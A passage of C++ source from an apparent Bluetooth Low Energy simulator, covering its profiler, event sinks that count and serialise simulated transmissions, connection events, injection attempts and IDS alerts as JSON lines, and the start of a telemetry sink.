    /// Buffers per-span Chrome duration events for chrome_trace_json().  Off
    /// when nobody will read the timeline (run_series disables it without
    /// INJECTABLE_CHROME_TRACE_DIR) — the metric/stack aggregation is
    /// unaffected either way.
    bool chrome_trace = true;
    /// Bounded Chrome-event buffer; spans past the cap are counted as dropped
    /// (the metric/stack aggregation itself is never truncated).
    std::size_t max_chrome_events = 65536;
};

class Profiler;
class Span;

/// Per-call-site cache: declared `static thread_local` next to the Span/gauge
/// call that uses it.  The span id is interned once per *process* in a global
/// mutex-guarded name table (ids are process-wide and stable; their
/// assignment order depends on thread scheduling but never reaches any output
/// — every export keys and sorts by name).  The (parent, node) edge cache is
/// per-profiler, revalidated by the epoch check whenever a different Profiler
/// instance is installed, so the steady-state hot path is two integer
/// compares — no name lookup, no child scan, and a fresh per-trial profiler
/// costs no re-interning at all.
class SpanSite {
public:
    explicit SpanSite(std::string_view name) noexcept : name_(name) {}

private:
    friend class Profiler;
    std::string_view name_;
    std::uint64_t epoch_ = 0;  // 0 never matches a live profiler
    int id_ = -1;              // global, set once per process
    int last_parent_ = -1;     // node index the cached edge hangs off
    int last_node_ = -1;
};

/// Same mechanics for gauges (separate global id space; no tree).
class GaugeSite {
public:
    explicit GaugeSite(std::string_view name) noexcept : name_(name) {}

private:
    friend class Profiler;
    std::string_view name_;
    std::uint64_t epoch_ = 0;
    int id_ = -1;
};

class Profiler {
public:
    explicit Profiler(ProfilerParams params = {});
    Profiler(const Profiler&) = delete;
    Profiler& operator=(const Profiler&) = delete;

    // -- hot path (called via prof::Span / prof::sample_gauge) --------------
    //
    // Frame state (node index, entry timestamps, claimed extra sim time)
    // lives *inside* the Span object on the caller's stack, so entering and
    // leaving a span touches no profiler-side stack structure at all — just
    // the tree node's accumulators.  Definitions follow the Span class.
    inline void enter(std::string_view name, TimePoint sim_ts, Span& span);
    inline void enter(SpanSite& site, TimePoint sim_ts, Span& span);
    inline void exit(Span& span, TimePoint sim_ts);
    void sample_gauge(std::string_view name, std::int64_t value);
    void sample_gauge(GaugeSite& site, std::int64_t value) {
        if (site.epoch_ != epoch_) {
            if (site.id_ < 0) site.id_ = intern_gauge_name(site.name_);
            site.epoch_ = epoch_;
            // First use of this site under this profiler: make the sparse
            // global-id-indexed cell array big enough, so the hot path below
            // needs no bounds branch.
            if (gauge_cells_.size() <= static_cast<std::size_t>(site.id_)) {
                gauge_cells_.resize(static_cast<std::size_t>(site.id_) + 1);
            }
        }
        gauge_sample(gauge_cells_[static_cast<std::size_t>(site.id_)], value);
    }

    [[nodiscard]] bool wall_clock_enabled() const noexcept { return params_.wall_clock; }
    [[nodiscard]] std::size_t depth() const noexcept { return static_cast<std::size_t>(depth_); }
    [[nodiscard]] std::uint64_t chrome_events_dropped() const noexcept { return chrome_dropped_; }

    // -- reporting ----------------------------------------------------------
    /// One collapsed-stack line: "a;b;c" with aggregate count and sim-µs, the
    /// standard flamegraph input format.  Sorted by stack string.
    struct StackLine {
        std::string stack;
        std::uint64_t count = 0;
        std::uint64_t sim_us = 0;
    };
    [[nodiscard]] std::vector<StackLine> collapsed_stacks() const;

    /// Per-span flat totals in first-use order (aggregated over every tree
    /// node the span appears in).
    struct SpanTotal {
        std::string name;
        std::uint64_t count = 0;
        std::uint64_t sim_ns = 0;
        std::uint64_t wall_ns = 0;
    };
    [[nodiscard]] std::vector<SpanTotal> span_totals() const;

    /// Emits prof.span.* / prof.stack.* / prof.gauge.* into `registry` (all
    /// sim-clock data; wall numbers are deliberately excluded).
    void export_metrics(MetricsRegistry& registry) const;

    /// Chrome trace-event JSON ({"traceEvents":[...]}) of the buffered spans,
    /// nested on the sim clock.  Byte-deterministic.
    [[nodiscard]] std::string chrome_trace_json() const;
    bool write_chrome_trace(const std::string& path) const;

    /// Human-facing wall-clock table (empty string unless wall_clock was
    /// enabled).  Non-deterministic by construction — never machine-parsed.
    [[nodiscard]] std::string wall_summary() const;

private:
    struct PathNode {
        int span_id = -1;
        int parent = -1;
        // (span id, node index) pairs; children counts are tiny, so a linear
        // scan beats a tree, and lookup order never reaches any output.
        std::vector<std::pair<int, int>> children;
        std::uint64_t count = 0;
        std::uint64_t sim_ns = 0;
        std::uint64_t wall_ns = 0;
        // Per-instance sim-µs distribution scalars, kept on the node's hot
        // cache lines; the log2 bucket array lives in the parallel buckets_
        // vector (bucket = bit_width(µs), mirroring HistogramSnapshot).
        std::uint64_t sum_us = 0;
        std::uint64_t min_us = 0;
        std::uint64_t max_us = 0;
    };
    using BucketArray = std::array<std::uint64_t, 65>;
    struct GaugeCell {
        std::uint64_t samples = 0;
        std::int64_t last = 0;
        std::int64_t min = 0;
        std::int64_t max = 0;
    };
    struct ChromeEvent {
        int span_id = 0;
        int depth = 0;
        TimePoint start = 0;
        Duration dur = 0;
    };

    // Process-wide name→id tables (cold: mutex-guarded, defined in the cpp).
    // Ids are stable for the process lifetime; their assignment order is
    // scheduling-dependent and therefore must never order any output.
    static int intern_span_name(std::string_view name);
    static int intern_gauge_name(std::string_view name);
    [[nodiscard]] static std::vector<std::string> span_name_snapshot();
    [[nodiscard]] static std::vector<std::string> gauge_name_snapshot();
    /// Finds `id` among current_node_'s children, adding the node on first
    /// visit of this (parent, span) pair.
    int resolve_node(int id) {
        const PathNode& parent = nodes_[static_cast<std::size_t>(current_node_)];
        for (const auto& [child_id, child_node] : parent.children) {
            if (child_id == id) return child_node;
        }
        return add_node(id);
    }
    int add_node(int id);  // cold
    void record_chrome(int span_id, TimePoint start, std::uint64_t sim_ns);
    static void gauge_sample(GaugeCell& cell, std::int64_t value) noexcept {
        if (cell.samples == 0) {
            cell.min = value;
            cell.max = value;
        } else {
            cell.min = value < cell.min ? value : cell.min;
            cell.max = value > cell.max ? value : cell.max;
        }
        cell.last = value;
        ++cell.samples;
    }
    void stack_path(int node, const std::vector<std::string>& names, std::string& out) const;
    /// Per-span aggregation over the node tree (export-time only), indexed by
    /// global span id; `size` must cover every id the tree references.
    struct SpanAgg {
        std::uint64_t count = 0;
        std::uint64_t sim_ns = 0;
        std::uint64_t wall_ns = 0;
        std::uint64_t sum_us = 0;
        std::uint64_t min_us = 0;
        std::uint64_t max_us = 0;
        BucketArray buckets{};
    };
    [[nodiscard]] std::vector<SpanAgg> aggregate_spans(std::size_t size) const;

    ProfilerParams params_;
    std::uint64_t epoch_;          // process-unique per instance; validates sites
    std::vector<PathNode> nodes_;      // nodes_[0] is the synthetic root
    std::vector<BucketArray> buckets_;  // parallel to nodes_
    int current_node_ = 0;
    int depth_ = 0;  // open spans (frame state itself lives in the Spans)
    std::vector<GaugeCell> gauge_cells_;  // indexed by global gauge id, sparse
    std::vector<ChromeEvent> chrome_;
    std::uint64_t chrome_dropped_ = 0;
};

// -- thread-local installation ----------------------------------------------
//
// One profiler per trial, one trial per thread at a time: a plain
// thread-local pointer is all the indirection the hot path needs.
namespace detail {
inline thread_local Profiler* t_current = nullptr;
inline thread_local TimePoint t_sim_now = 0;
}  // namespace detail

[[nodiscard]] inline Profiler* current() noexcept { return detail::t_current; }
[[nodiscard]] inline bool active() noexcept { return detail::t_current != nullptr; }

/// The scheduler stores its clock here on every dispatch; spans read it so
/// they never need a back-pointer to the scheduler.
inline void set_sim_now(TimePoint t) noexcept { detail::t_sim_now = t; }
[[nodiscard]] inline TimePoint sim_now() noexcept { return detail::t_sim_now; }

/// RAII install/restore of the calling thread's profiler (null is fine and
/// makes every Span a no-op — the uninstrumented fast path).
class Install {
public:
    explicit Install(Profiler* profiler) noexcept
        : prev_(detail::t_current), prev_sim_(detail::t_sim_now) {
        detail::t_current = profiler;
        detail::t_sim_now = 0;
    }
    ~Install() {
        detail::t_current = prev_;
        detail::t_sim_now = prev_sim_;
    }
    Install(const Install&) = delete;
    Install& operator=(const Install&) = delete;

private:
    Profiler* prev_;
    TimePoint prev_sim_;
};

/// RAII scoped span.  The frame state (tree-node index, entry timestamps,
/// claimed extra sim time) is carried by the Span object itself on the
/// caller's stack, so the profiler keeps no side stack and destruction pops
/// the span even when unwinding through an exception — the collapsed-stack
/// tree can never be left unbalanced.
class Span {
public:
    explicit Span(std::string_view name) : prof_(detail::t_current) {
        if (prof_ != nullptr) prof_->enter(name, detail::t_sim_now, *this);
    }
    Span(std::string_view name, TimePoint sim_ts) : prof_(detail::t_current) {
        if (prof_ != nullptr) prof_->enter(name, sim_ts, *this);
    }
    /// Cached-id fast path; `site` must be `static thread_local` at the call
    /// site (or otherwise single-threaded, like a per-trial sink member) so
    /// concurrent trial workers never share a cache cell.
    explicit Span(SpanSite& site) : prof_(detail::t_current) {
        if (prof_ != nullptr) prof_->enter(site, detail::t_sim_now, *this);
    }
    Span(SpanSite& site, TimePoint sim_ts) : prof_(detail::t_current) {
        if (prof_ != nullptr) prof_->enter(site, sim_ts, *this);
    }
    ~Span() {
        if (prof_ != nullptr) prof_->exit(*this, detail::t_sim_now);
    }
    Span(const Span&) = delete;
    Span& operator=(const Span&) = delete;

    /// Attributes extra simulated time to this span (e.g. frame airtime
    /// claimed by the medium on top of scheduler clock movement).
    void add_sim(Duration d) noexcept {
        if (d > 0) extra_sim_ns_ += static_cast<std::uint64_t>(d);
    }

private:
    friend class Profiler;
    Profiler* prof_;
    int node_ = 0;
    TimePoint enter_sim_ = 0;
    std::uint64_t extra_sim_ns_ = 0;
    std::uint64_t enter_wall_ns_ = 0;
};

// -- Profiler hot-path definitions (need the complete Span type) ------------

inline void Profiler::enter(std::string_view name, TimePoint sim_ts, Span& span) {
    span.node_ = resolve_node(intern_span_name(name));
    span.enter_sim_ = sim_ts;
    if (params_.wall_clock) span.enter_wall_ns_ = detail::wall_now_ns();
    current_node_ = span.node_;
    ++depth_;
}

inline void Profiler::enter(SpanSite& site, TimePoint sim_ts, Span& span) {
    if (site.epoch_ != epoch_) {
        if (site.id_ < 0) site.id_ = intern_span_name(site.name_);
        site.epoch_ = epoch_;
        site.last_parent_ = -1;
    }
    int node_index;
    if (site.last_parent_ == current_node_) {
        node_index = site.last_node_;
    } else {
        site.last_parent_ = current_node_;
        node_index = resolve_node(site.id_);
        site.last_node_ = node_index;
    }
    span.node_ = node_index;
    span.enter_sim_ = sim_ts;
    if (params_.wall_clock) span.enter_wall_ns_ = detail::wall_now_ns();
    current_node_ = node_index;
    ++depth_;
}

inline void Profiler::exit(Span& span, TimePoint sim_ts) {
    const std::uint64_t elapsed =
        sim_ts >= span.enter_sim_ ? static_cast<std::uint64_t>(sim_ts - span.enter_sim_) : 0;
    const std::uint64_t sim_ns = elapsed + span.extra_sim_ns_;
    const std::uint64_t us = sim_ns / 1000;

    PathNode& node = nodes_[static_cast<std::size_t>(span.node_)];
    ++node.count;
    node.sim_ns += sim_ns;
    node.sum_us += us;
    if (node.count == 1) {
        node.min_us = us;
        node.max_us = us;
    } else {
        node.min_us = us < node.min_us ? us : node.min_us;
        node.max_us = us > node.max_us ? us : node.max_us;
    }
    ++buckets_[static_cast<std::size_t>(span.node_)][std::bit_width(us)];
    if (params_.wall_clock) node.wall_ns += detail::wall_now_ns() - span.enter_wall_ns_;

    --depth_;
    if (params_.chrome_trace) record_chrome(node.span_id, span.enter_sim_, sim_ns);
    current_node_ = node.parent;
}

inline void sample_gauge(std::string_view name, std::int64_t value) {
    if (Profiler* p = detail::t_current) p->sample_gauge(name, value);
}

inline void sample_gauge(GaugeSite& site, std::int64_t value) {
    if (Profiler* p = detail::t_current) p->sample_gauge(site, value);
}

}  // namespace ble::obs::prof
