#include "obs/sinks.hpp"

#include <cstdio>

#include "common/hex.hpp"

#if BLE_OBS_HAS_ZLIB
#include <zlib.h>
#endif

namespace ble::obs {

const char* rx_verdict_name(RxVerdict verdict) noexcept {
    switch (verdict) {
        case RxVerdict::kDelivered: return "delivered";
        case RxVerdict::kDeliveredCorrupted: return "corrupted";
        case RxVerdict::kLostSync: return "lost-sync";
    }
    return "?";
}

const char* event_kind_name(const Event& event) noexcept {
    struct Visitor {
        const char* operator()(const TxStart&) const { return "tx"; }
        const char* operator()(const RxDecision&) const { return "rx"; }
        const char* operator()(const ConnEvent&) const { return "conn"; }
        const char* operator()(const WindowWiden&) const { return "widen"; }
        const char* operator()(const InjectionAttempt&) const { return "attempt"; }
        const char* operator()(const IdsAlert&) const { return "ids"; }
        const char* operator()(const TrialPhase&) const { return "phase"; }
    };
    return std::visit(Visitor{}, event);
}

void append_json_escaped(std::string& out, std::string_view s) {
    for (const char c : s) {
        switch (c) {
            case '"': out += "\\\""; break;
            case '\\': out += "\\\\"; break;
            case '\n': out += "\\n"; break;
            case '\t': out += "\\t"; break;
            case '\r': out += "\\r"; break;
            case '\b': out += "\\b"; break;
            case '\f': out += "\\f"; break;
            default: {
                // Escape the remaining control bytes AND everything outside
                // printable ASCII: device names / frame descriptions can hold
                // arbitrary attacker-chosen bytes, and raw 0x80..0xFF would
                // make the line invalid UTF-8 (hence invalid JSON for strict
                // parsers).  \u00xx reads each byte as Latin-1 and always
                // round-trips.
                const auto u = static_cast<unsigned char>(c);
                if (u < 0x20 || u >= 0x7f) {
                    char buf[8];
                    std::snprintf(buf, sizeof(buf), "\\u%04x", u);
                    out += buf;
                } else {
                    out += c;
                }
            }
        }
    }
}

std::string json_escape(std::string_view s) {
    std::string out;
    out.reserve(s.size() + 8);
    append_json_escaped(out, s);
    return out;
}

namespace {

void append_str(std::string& out, const char* key, std::string_view value) {
    out += ",\"";
    out += key;
    out += "\":\"";
    append_json_escaped(out, value);
    out += '"';
}

void append_int(std::string& out, const char* key, long long value) {
    out += ",\"";
    out += key;
    out += "\":";
    out += std::to_string(value);
}

void append_bool(std::string& out, const char* key, bool value) {
    out += ",\"";
    out += key;
    out += "\":";
    out += value ? "true" : "false";
}

/// dBm figures serialize at one decimal — the exact quantization the capture
/// subsystem's phdr uses, so offline trace-to-pcap rendering is bit-identical
/// to the live sink (obs::capture::quantize_dbm round-trips this form).
void append_fixed1(std::string& out, const char* key, double value) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.1f", value);
    out += ",\"";
    out += key;
    out += "\":";
    out += buf;
}

struct JsonVisitor {
    std::string& out;
    const FrameDescriber& describe;

    void operator()(const TxStart& e) const {
        append_int(out, "tx_id", static_cast<long long>(e.tx_id));
        append_int(out, "ch", e.channel);
        append_str(out, "sender", e.sender);
        append_int(out, "dur_ns", e.duration);
        append_fixed1(out, "tx_dbm", e.tx_power_dbm);
        append_str(out, "hex", to_hex(e.bytes));
        if (describe) append_str(out, "desc", describe(e.bytes));
    }
    void operator()(const RxDecision& e) const {
        append_int(out, "tx_id", static_cast<long long>(e.tx_id));
        append_int(out, "ch", e.channel);
        append_str(out, "receiver", e.receiver);
        append_str(out, "verdict", rx_verdict_name(e.verdict));
        append_fixed1(out, "rssi_dbm", e.rssi_dbm);
        append_fixed1(out, "noise_dbm", e.noise_dbm);
        append_int(out, "corrupted_bytes", e.corrupted_bytes);
        append_int(out, "sync_bit_errors", e.sync_bit_errors);
    }
    void operator()(const ConnEvent& e) const {
        const char* kind = e.kind == ConnEvent::Kind::kOpened       ? "opened"
                           : e.kind == ConnEvent::Kind::kEventClosed ? "event"
                                                                     : "closed";
        append_str(out, "kind", kind);
        append_str(out, "device", e.device);
        append_str(out, "role", e.role == 0 ? "master" : "slave");
        append_int(out, "event_counter", e.event_counter);
        append_int(out, "ch", e.channel);
        if (e.kind == ConnEvent::Kind::kEventClosed) {
            append_bool(out, "anchor", e.anchor_observed);
            append_int(out, "rx", e.pdus_rx);
            append_int(out, "tx", e.pdus_tx);
            append_int(out, "crc_errors", e.crc_errors);
        }
        if (e.kind == ConnEvent::Kind::kClosed) append_str(out, "reason", e.reason);
    }
    void operator()(const WindowWiden& e) const {
        append_str(out, "device", e.device);
        append_int(out, "event_counter", e.event_counter);
        append_int(out, "ch", e.channel);
        append_int(out, "widening_ns", e.widening);
        append_int(out, "window_ns", e.window);
        append_bool(out, "missed", e.missed);
    }
    void operator()(const InjectionAttempt& e) const {
        append_int(out, "attempt", e.attempt);
        append_int(out, "event_counter", e.event_counter);
        append_int(out, "ch", e.channel);
        append_bool(out, "heuristic_success", e.heuristic_success);
        if (e.ground_truth_known) append_bool(out, "accepted", e.accepted_by_slave);
    }
    void operator()(const IdsAlert& e) const {
        append_int(out, "type", e.type);
        append_str(out, "name", e.type_name);
        append_int(out, "event_counter", e.event_counter);
        append_str(out, "detail", e.detail);
    }
    void operator()(const TrialPhase& e) const {
        append_int(out, "seed", static_cast<long long>(e.seed));
        append_str(out, "phase", e.phase);
        if (!e.detail.empty()) append_str(out, "detail", e.detail);
    }
};

TimePoint event_time(const Event& event) noexcept {
    return std::visit([](const auto& e) { return e.time; }, event);
}

}  // namespace

std::string to_jsonl(const Event& event, const FrameDescriber& describe) {
    std::string out;
    out.reserve(128);
    out += "{\"e\":\"";
    out += event_kind_name(event);
    out += '"';
    append_int(out, "t_ns", event_time(event));
    std::visit(JsonVisitor{out, describe}, event);
    out += '}';
    return out;
}

namespace {
constexpr auto relaxed = std::memory_order_relaxed;
}  // namespace

void CounterSink::on_event(const Event& event) {
    struct Visitor {
        CounterSink& self;
        void operator()(const TxStart&) const { self.tx_frames_.fetch_add(1, relaxed); }
        void operator()(const RxDecision& e) const {
            switch (e.verdict) {
                case RxVerdict::kDelivered: self.rx_delivered_.fetch_add(1, relaxed); break;
                case RxVerdict::kDeliveredCorrupted:
                    self.rx_delivered_.fetch_add(1, relaxed);
                    self.rx_corrupted_.fetch_add(1, relaxed);
                    break;
                case RxVerdict::kLostSync: self.rx_lost_sync_.fetch_add(1, relaxed); break;
            }
        }
        void operator()(const ConnEvent& e) const {
            switch (e.kind) {
                case ConnEvent::Kind::kOpened: self.conn_opened_.fetch_add(1, relaxed); break;
                case ConnEvent::Kind::kEventClosed:
                    self.conn_events_.fetch_add(1, relaxed);
                    if (!e.anchor_observed) self.anchors_missed_.fetch_add(1, relaxed);
                    break;
                case ConnEvent::Kind::kClosed: self.conn_closed_.fetch_add(1, relaxed); break;
            }
        }
        void operator()(const WindowWiden& e) const {
            if (e.missed) {
                self.window_misses_.fetch_add(1, relaxed);
            } else {
                self.windows_opened_.fetch_add(1, relaxed);
            }
        }
        void operator()(const InjectionAttempt& e) const {
            self.injection_attempts_.fetch_add(1, relaxed);
            if (e.heuristic_success) self.injection_wins_.fetch_add(1, relaxed);
            if (e.ground_truth_known && e.accepted_by_slave) {
                self.injection_accepted_.fetch_add(1, relaxed);
            }
        }
        void operator()(const IdsAlert&) const { self.ids_alerts_.fetch_add(1, relaxed); }
        void operator()(const TrialPhase&) const { self.phases_.fetch_add(1, relaxed); }
    };
    std::visit(Visitor{*this}, event);
}

CounterSink::Snapshot CounterSink::snapshot() const noexcept {
    Snapshot s;
    s.tx_frames = tx_frames_.load(relaxed);
    s.rx_delivered = rx_delivered_.load(relaxed);
    s.rx_corrupted = rx_corrupted_.load(relaxed);
    s.rx_lost_sync = rx_lost_sync_.load(relaxed);
    s.conn_opened = conn_opened_.load(relaxed);
    s.conn_events = conn_events_.load(relaxed);
    s.conn_closed = conn_closed_.load(relaxed);
    s.anchors_missed = anchors_missed_.load(relaxed);
    s.windows_opened = windows_opened_.load(relaxed);
    s.window_misses = window_misses_.load(relaxed);
    s.injection_attempts = injection_attempts_.load(relaxed);
    s.injection_wins = injection_wins_.load(relaxed);
    s.injection_accepted = injection_accepted_.load(relaxed);
    s.ids_alerts = ids_alerts_.load(relaxed);
    s.phases = phases_.load(relaxed);
    return s;
}

void CounterSink::reset() noexcept {
    for (Counter* c : {&tx_frames_, &rx_delivered_, &rx_corrupted_, &rx_lost_sync_,
                       &conn_opened_, &conn_events_, &conn_closed_, &anchors_missed_,
                       &windows_opened_, &window_misses_, &injection_attempts_,
                       &injection_wins_, &injection_accepted_, &ids_alerts_, &phases_}) {
        c->store(0, relaxed);
    }
}

std::string JsonlTraceSink::str() const {
    std::string out;
    std::size_t total = header_.empty() ? 0 : header_.size() + 1;
    for (const auto& line : lines_) total += line.size() + 1;
    out.reserve(total);
    if (!header_.empty()) {
        out += header_;
        out += '\n';
    }
    for (const auto& line : lines_) {
        out += line;
        out += '\n';
    }
    return out;
}

bool trace_compression_available() noexcept {
#if BLE_OBS_HAS_ZLIB
    return true;
#else
    return false;
#endif
}

bool write_text_file(const std::string& path, std::string_view content, bool gzip) {
#if BLE_OBS_HAS_ZLIB
    if (gzip) {
        gzFile gz = gzopen(path.c_str(), "wb");
        if (gz == nullptr) return false;
        bool ok = content.empty() ||
                  gzwrite(gz, content.data(), static_cast<unsigned>(content.size())) ==
                      static_cast<int>(content.size());
        if (gzclose(gz) != Z_OK) ok = false;
        return ok;
    }
#else
    (void)gzip;  // graceful fallback: write plain when zlib is unavailable
#endif
    FILE* f = std::fopen(path.c_str(), "w");
    if (f == nullptr) return false;
    bool ok = content.empty() || std::fwrite(content.data(), 1, content.size(), f) == content.size();
    if (std::fclose(f) != 0) ok = false;
    return ok;
}

bool JsonlTraceSink::write_file(const std::string& path, bool gzip) const {
    return write_text_file(path, str(), gzip);
}

bool read_binary_file(const std::string& path, std::string& content, std::string* error) {
    content.clear();
    bool ok = false;
#if BLE_OBS_HAS_ZLIB
    // gzread is transparent: it inflates gzip streams and passes plain files
    // through unchanged, so one path serves .pcap and .pcap.gz alike.
    if (gzFile gz = gzopen(path.c_str(), "rb")) {
        char buf[1 << 16];
        int n = 0;
        ok = true;
        while ((n = gzread(gz, buf, sizeof(buf))) > 0) content.append(buf, static_cast<std::size_t>(n));
        if (n < 0) ok = false;
        if (gzclose(gz) != Z_OK) ok = false;
    }
#else
    if (path.size() >= 3 && path.compare(path.size() - 3, 3, ".gz") == 0) {
        if (error != nullptr) *error = "built without zlib: cannot read " + path;
        return false;
    }
    if (FILE* f = std::fopen(path.c_str(), "rb")) {
        char buf[1 << 16];
        std::size_t n = 0;
        ok = true;
        while ((n = std::fread(buf, 1, sizeof(buf), f)) > 0) content.append(buf, n);
        if (std::ferror(f) != 0) ok = false;
        std::fclose(f);
    }
#endif
    if (!ok && error != nullptr) *error = "cannot read " + path;
    return ok;
}

std::vector<std::string> read_jsonl_file(const std::string& path, std::string* error) {
    std::string content;
    if (!read_binary_file(path, content, error)) return {};
    std::vector<std::string> lines;
    std::size_t pos = 0;
    while (pos < content.size()) {
        std::size_t nl = content.find('\n', pos);
        if (nl == std::string::npos) nl = content.size();
        lines.emplace_back(content, pos, nl - pos);
        pos = nl + 1;
    }
    return lines;
}

}  // namespace ble::obs
