// Stock sinks for the observation bus.
//
//  * CounterSink — lock-free per-trial metrics: every counter is a relaxed
//    atomic, so an aggregator thread may snapshot while the trial's scheduler
//    thread keeps emitting (the TrialRunner pattern).
//  * JsonlTraceSink — serializes every event into one JSON line, buffered in
//    memory; TrialRunner-style harnesses attach one per trial and flush the
//    buffer to a file next to the INJECTABLE_JSON records when the trial
//    fails, keyed by seed, so the trial can be replayed frame-by-frame.
//
// The human-readable third sink is link::PacketTrace, which subscribes to the
// same bus but needs the link layer to decode frames — it lives in ble_link.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "obs/bus.hpp"

namespace ble::obs {

/// Optional frame decoder injected by higher layers (link::describe_frame
/// has exactly this signature); keeps ble_obs free of link-layer knowledge.
using FrameDescriber = std::function<std::string(BytesView)>;

/// Appends `s` as the body of a JSON string literal (no surrounding quotes):
/// quotes/backslashes and the short control escapes (\n \t \r \b \f) are
/// escaped, every other control byte, DEL and every non-ASCII byte becomes
/// \u00xx (Latin-1 view of the byte) — device names and frame descriptions
/// are attacker-influenced, so the output must stay valid JSON (and valid
/// UTF-8) for ANY input bytes.
void append_json_escaped(std::string& out, std::string_view s);
[[nodiscard]] std::string json_escape(std::string_view s);

/// Serializes one event as a compact single-line JSON object (no trailing
/// newline).  With a describer, TxStart lines carry a decoded "desc" field.
[[nodiscard]] std::string to_jsonl(const Event& event, const FrameDescriber& describe = {});

/// True when ble_obs was built with zlib: gzip-compressed trace writing (and
/// transparent .gz reading) is available.
[[nodiscard]] bool trace_compression_available() noexcept;

/// Writes `content` to `path` (truncating); with gzip=true the stream is
/// gzip-compressed when trace_compression_available(), and written plain
/// otherwise (graceful fallback).  Returns false on I/O error.  This is the
/// one file-writing primitive every result channel shares, so artifact bytes
/// are identical no matter which sink routed them.
bool write_text_file(const std::string& path, std::string_view content, bool gzip = false);

/// Reads a whole file into `content` as raw bytes.  Reads gzip-compressed
/// files transparently when built with zlib (plain files work either way).
/// The binary counterpart of read_jsonl_file — capture files (.pcap[.gz],
/// .btsnoop[.gz]) come back through here.  Returns false and sets *error on
/// failure.
[[nodiscard]] bool read_binary_file(const std::string& path, std::string& content,
                                    std::string* error = nullptr);

/// Reads a JSONL file into lines (without the trailing newlines).  Reads
/// gzip-compressed files transparently when built with zlib (plain files work
/// either way).  On failure returns an empty vector and sets *error.
[[nodiscard]] std::vector<std::string> read_jsonl_file(const std::string& path,
                                                       std::string* error = nullptr);

/// Lock-free counters over the event stream.
class CounterSink : public EventSink {
public:
    struct Snapshot {
        std::uint64_t tx_frames = 0;
        std::uint64_t rx_delivered = 0;
        std::uint64_t rx_corrupted = 0;  ///< delivered with corrupted bytes
        std::uint64_t rx_lost_sync = 0;
        std::uint64_t conn_opened = 0;
        std::uint64_t conn_events = 0;
        std::uint64_t conn_closed = 0;
        std::uint64_t anchors_missed = 0;  ///< event closed without an anchor
        std::uint64_t windows_opened = 0;
        std::uint64_t window_misses = 0;
        std::uint64_t injection_attempts = 0;
        std::uint64_t injection_wins = 0;      ///< Eq. 7 verdict: success
        std::uint64_t injection_accepted = 0;  ///< ground truth: slave took it
        std::uint64_t ids_alerts = 0;
        std::uint64_t phases = 0;
    };

    void on_event(const Event& event) override;
    [[nodiscard]] std::string_view prof_name() const noexcept override { return "obs.sink.counter"; }
    [[nodiscard]] Snapshot snapshot() const noexcept;
    void reset() noexcept;

private:
    using Counter = std::atomic<std::uint64_t>;
    Counter tx_frames_{0}, rx_delivered_{0}, rx_corrupted_{0}, rx_lost_sync_{0};
    Counter conn_opened_{0}, conn_events_{0}, conn_closed_{0}, anchors_missed_{0};
    Counter windows_opened_{0}, window_misses_{0};
    Counter injection_attempts_{0}, injection_wins_{0}, injection_accepted_{0};
    Counter ids_alerts_{0}, phases_{0};
};

/// Buffers every event as one JSON line; flush with write_file() / str().
class JsonlTraceSink : public EventSink {
public:
    explicit JsonlTraceSink(FrameDescriber describe = {}) : describe_(std::move(describe)) {}

    void on_event(const Event& event) override { lines_.push_back(to_jsonl(event, describe_)); }
    [[nodiscard]] std::string_view prof_name() const noexcept override { return "obs.sink.jsonl"; }

    /// Optional metadata line written before the event lines (the replay tool
    /// stores the trial's reconstructed config here).  Not part of lines().
    void set_header(std::string line) { header_ = std::move(line); }
    [[nodiscard]] const std::string& header() const noexcept { return header_; }

    [[nodiscard]] const std::vector<std::string>& lines() const noexcept { return lines_; }
    [[nodiscard]] std::string str() const;
    void clear() noexcept {
        lines_.clear();
        header_.clear();
    }

    /// Writes the header (if any) and all lines to `path` (truncating);
    /// returns false on I/O error.  With gzip=true the stream is
    /// gzip-compressed when trace_compression_available(), and written plain
    /// otherwise (graceful fallback).
    bool write_file(const std::string& path, bool gzip = false) const;

private:
    FrameDescriber describe_;
    std::string header_;
    std::vector<std::string> lines_;
};

}  // namespace ble::obs
