#include "obs/telemetry.hpp"

#include <algorithm>
#include <cstddef>
#include <cstdio>
#include <fstream>

#include "obs/sinks.hpp"

namespace ble::obs {

namespace {

// The telemetry log and the status document quote campaign/reason strings
// that ultimately come from CLI flags and plan files — escape like every
// other JSON emitter in the tree.
void append_quoted(std::string& out, std::string_view s) {
    out += '"';
    append_json_escaped(out, s);
    out += '"';
}

void append_fixed1(std::string& out, double v) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.1f", v);
    out += buf;
}

}  // namespace

const char* shard_state_name(ShardState state) noexcept {
    switch (state) {
        case ShardState::kIssued: return "issued";
        case ShardState::kReissued: return "reissued";
        case ShardState::kAccepted: return "accepted";
        case ShardState::kRunning: return "running";
        case ShardState::kDone: return "done";
        case ShardState::kLost: return "lost";
    }
    return "?";
}

std::string worker_telemetry_to_json(const WorkerTelemetry& hb) {
    std::string out = "{\"worker\":" + std::to_string(hb.worker);
    out += ",\"task\":" + std::to_string(hb.task);
    out += ",\"t_ms\":" + std::to_string(hb.t_ms);
    out += ",\"trials_done\":" + std::to_string(hb.trials_done);
    out += ",\"trials_total\":" + std::to_string(hb.trials_total);
    out += ",\"tx_frames\":" + std::to_string(hb.tx_frames);
    out += ",\"tx_bytes\":" + std::to_string(hb.tx_bytes);
    out += ",\"final\":";
    out += hb.final_snapshot ? "true" : "false";
    out += ",\"counters\":{";
    bool first = true;
    for (const auto& [name, value] : hb.counters) {
        if (!first) out += ',';
        first = false;
        append_quoted(out, name);
        out += ':' + std::to_string(value);
    }
    out += "},\"hists\":{";
    first = true;
    for (const auto& [name, h] : hb.hists) {
        if (!first) out += ',';
        first = false;
        append_quoted(out, name);
        out += ":{\"n\":" + std::to_string(h.n) + ",\"sum\":" + std::to_string(h.sum) + "}";
    }
    out += "}}";
    return out;
}

void compact_snapshot(const MetricsSnapshot& snapshot, WorkerTelemetry& out) {
    for (const auto& [name, value] : snapshot.counters) out.counters[name] += value;
    for (const auto& [name, hist] : snapshot.histograms) {
        HistTotal& t = out.hists[name];
        t.n += hist.count;
        t.sum += hist.sum;
    }
}

CampaignTelemetrySink::CampaignTelemetrySink(TelemetrySinkParams params)
    : params_(std::move(params)) {
    if (!params_.jsonl_path.empty()) {
        // Truncate: one campaign per log.
        std::ofstream out(params_.jsonl_path, std::ios::trunc);
    }
}

CampaignTelemetrySink::~CampaignTelemetrySink() {
    // Tests drive a fake clock through close(); a sink destroyed without an
